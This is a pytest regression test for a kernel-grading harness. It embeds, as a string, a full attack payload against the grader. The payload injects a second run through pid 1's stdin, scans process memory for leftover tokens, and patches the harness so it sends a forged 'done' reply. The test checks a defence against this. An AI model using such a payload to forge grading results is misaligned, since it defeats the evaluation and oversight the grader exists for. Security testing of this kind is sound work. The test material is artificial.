"""Attack: a second grading run. Run 1 injects "run deadbeef <request>" into the warm worker's stdin
(/proc/1/fd/0, through bwrap's pid 1) and spoils the worker's reply line (one 'X' without a newline on
/proc/1/fd/1), so the parent would ignore it. The worker then forked run 2 from its own memory, which still held
the parent's token (freed strings); run 2 found it by scanning its heap and, once its results were written, forged
the reply "done 0 TOKEN PATH". Found by an adversarial review (2026-11-29).

Defence: `one_run_per_worker` (a worker that grades untrusted code exits after its one run, and the grader stops
it; the reply with junk in front is still read: `worker_reply_token`, forged_worker_reply.py).
Honest twin: the kernel behind the payload is the baseline, and is graded 120 without waiting for a timeout.

`SECOND_RUN` is the payload, prepended to a kernel; it is a string so that collecting this file never runs it.
"""
import time

import pytest

from kernelgym.discovery import get_task
from kernelgym.grader import Grader, GraderConfig
from kernelgym.hardware import detect_profile

TASK = get_task("triton-rmsnorm")
BASELINE = (TASK.root / "kernel.py").read_text()

SECOND_RUN = r'''import os, json, time, re, threading
_d = os.path.dirname(os.path.abspath(__file__))
_req = os.path.join(_d, "request.json")
def _log(s):
    with open(os.path.join(_d, "runs.txt"), "a") as f: f.write(s + "\n")
_log(f"imported pid={os.getpid()} t={time.time():.3f}")
if not os.path.exists(os.path.join(_d, "injected")):
    open(os.path.join(_d, "injected"), "w").close()
    try:  # started by root, pid 1 is root's: its descriptors are out of the sandbox user's reach
        os.write(os.open("/proc/1/fd/0", os.O_WRONLY | os.O_NONBLOCK), f"run deadbeef {_req}\n".encode())
        os.write(os.open("/proc/1/fd/1", os.O_WRONLY | os.O_NONBLOCK), b"X")
    except OSError as e:
        _log(f"pid 1 out of reach: {e}")
else:
    toks = set()
    mem = open("/proc/self/mem", "rb", buffering=0)
    for l in open("/proc/self/maps"):
        a, perms = l.split()[:2]
        lo, hi = (int(x, 16) for x in a.split("-"))
        if "rw" not in perms or hi - lo > (256 << 20): continue
        try:
            mem.seek(lo); data = mem.read(hi - lo)
        except OSError: continue
        toks |= set(re.findall(rb"(?:go|run|started|done -?\d+) ([0-9a-f]{32})\b", data))
    _log(f"tokens found: {sorted(toks)}")
    import __main__ as _h  # the harness: wrap its result writer so the forged reply follows the results
    _orig_write = _h._write
    def _write(path, obj):
        _orig_write(path, obj)
        if path.endswith("check_result.json"):
            for t in toks:
                os.write(os.open("/proc/1/fd/1", os.O_WRONLY | os.O_NONBLOCK), b"done 0 " + t + b" " + _req.encode() + b"\n")
            _log("forged reply written")
    _h._write = _write
'''


@pytest.mark.timeout(240)
def test_a_run_queued_in_the_workers_stdin_is_never_served(tmp_path, require_bwrap, make_workspace):
    # SECOND_RUN writes "run ... request.json" into the worker's stdin through /proc/1/fd/0 and puts an 'X' in front
    # of the worker's reply; the worker used to serve that run after answering, in a fork whose memory still held
    # the token, so the second run could forge the reply. Now the reply is still read and the worker exits after
    # its one run.
    ws = make_workspace(SECOND_RUN + "\n" + BASELINE)
    grader = Grader(TASK, detect_profile("cpu-interpreter"), tmp_path / "grading", GraderConfig(timeout_s=60.0, static_check=False, keep_grading_dirs=True))
    grader.start_worker(seed=5)
    gdir = grader._prepared.gdir
    t = time.monotonic()
    g = grader.grade(ws, seed=5)
    assert g.score == 120.0 and time.monotonic() - t < 30, g.summary()  # the spoiled reply was still taken
    time.sleep(2)
    runs = (gdir / "runs.txt").read_text()
    assert runs.count("imported") == 1, runs
